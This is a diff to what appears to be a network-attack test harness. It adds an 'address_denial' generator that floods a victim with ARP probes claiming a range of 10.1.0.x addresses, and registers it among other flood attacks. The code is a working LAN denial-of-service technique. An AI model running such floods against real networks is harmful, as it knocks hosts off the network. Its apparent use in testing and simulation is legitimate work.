@@ -112,6 +112,15 @@ def address_squatting(scene):
         yield frames[last]
 
 
+def address_denial(scene):
+    """Asks for fifteen addresses beside his own, as before their first use, then for ever others; of one station."""
+    to = scene.victim.mac
+    frames = {last: bytes(arp(scene, to, 1, "0.0.0.0", ZERO, f"10.1.0.{last}")) for last in range(71, 236)}
+    for number in range(FLOOD_FRAMES_MAX):
+        last = 71 + number if number < 15 else 86 + number % 150
+        yield frames[last]
+
+
 def dhcp_message(scene, kind, xid, chaddr, options=(), **fields):
     return BOOTP(chaddr=octets(chaddr) + bytes(10), xid=xid, **fields) / DHCP(
         options=[("message-type", kind), *options, "end"])
@@ -369,4 +378,7 @@ def arp_storm(scene):
 
 
 # How many frames have to be sent before the attack may end.
-FLOODS = {mac_flood: FLOOD_FRAMES_MAX, address_squatting: 10_000, broadcast_storm: 10_000, arp_storm: 10_000}
+FLOODS = {
+    mac_flood: FLOOD_FRAMES_MAX, address_squatting: 10_000, address_denial: 10_000, broadcast_storm: 10_000,
+    arp_storm: 10_000,
+}
